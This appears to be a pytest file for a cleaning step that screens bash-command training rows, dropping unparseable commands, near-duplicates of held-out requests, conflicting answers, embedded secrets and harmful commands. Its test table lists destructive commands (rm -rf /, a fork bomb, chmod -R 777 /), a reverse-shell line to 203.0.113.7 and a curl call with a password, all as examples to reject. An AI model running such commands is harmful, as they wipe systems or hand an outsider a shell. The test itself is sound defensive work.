"""What may be trained on: rows of others are looked at closely, and every row that goes has a reason."""

from __future__ import annotations

import pytest

from overseer_training.data.clean import SetAside, clean, parses, problem_of
from overseer_training.data.sources.corpus import fill, load_families
from overseer_training.records import Example, Turn

SENTENCE = "show me the ten largest files below the current directory, sorted by size"


def row(query: str, answer: str, *, source: str = "theirs.jsonl", identity: str = "") -> Example:
    turns = (Turn("user", query), Turn("assistant", answer))
    return Example(identity or f"{query}/{answer}", answer, "command", turns, "linux", source)


def cleaned(train: list[Example], test: list[Example] = []) -> tuple[list[Example], list[str]]:  # noqa: B006
    rows = list(clean(train, {"validation": [], "test": test}))
    kept = [row[1] for row in rows if not isinstance(row, SetAside) and row[0] == "train"]
    return kept, [row.reason for row in rows if isinstance(row, SetAside)]


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("find . -name '*.txt", "does not parse as bash"),
        ("for f in *; do echo $f", "does not parse as bash"),
        ("ls | | wc", "does not parse as bash"),
        ("rm -rf /", "harmful"),
        ("sudo rm -rf --no-preserve-root /", "harmful"),
        ("rm -r -f ~", "harmful"),
        (":(){ :|:& };:", "harmful"),
        ("sudo chmod -R 777 /", "harmful"),
        ('x=/; sudo sh -c "rm -rf $x"', "harmful"),
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "harmful"),
        ("sudo reboot", None),
        ("curl -u bob:hunter22xx https://example.org", "holds a secret"),
        ("rm -rf /tmp/build", None),
        ("rm -rf ./node_modules", None),
        ("chmod -R g+w /srv/www", None),
        ("find . -name '*.txt' -print0 | xargs -0 rm", None),
        ('while read -r l; do echo "$l"; done < a', None),
    ],
)
def test_a_row_that_nobody_should_learn_from_says_why(command: str, reason: str | None) -> None:
    assert problem_of(row("do it", command)) == reason


def test_rows_of_others_that_nearly_repeat_a_held_out_request_go() -> None:
    near, far = SENTENCE + " please", "how much space is left on the root partition"
    train, reasons = cleaned(
        [row(near, "du -a | sort -n"), row(far, "df -h /")], [row(SENTENCE, "du -ah", source="corpus")]
    )
    assert [example.query for example in train] == [far]
    assert reasons == ["request nearly repeats a held-out one"]


def test_one_request_has_one_answer() -> None:
    train, reasons = cleaned(
        [row("list files", "ls"), row("List  files", "ls -1"), row("list files", "ls", identity="x")]
    )
    assert [example.answer for example in train] == ["ls"]
    assert sorted(reasons) == ["another answer for the same request", "repeated"]


def test_the_corpus_may_answer_a_request_in_several_ways() -> None:
    train, reasons = cleaned([row("list files", "ls", source="corpus"), row("list files", "ls -1", source="corpus")])
    assert len(train) == 2 and not reasons


def test_every_command_of_the_corpus_parses() -> None:
    """By the same grammar that the rows of others are held to."""
    wrong = [f.name for f in load_families() if not parses(fill(f.command, f.slots[0]))]
    assert wrong == []
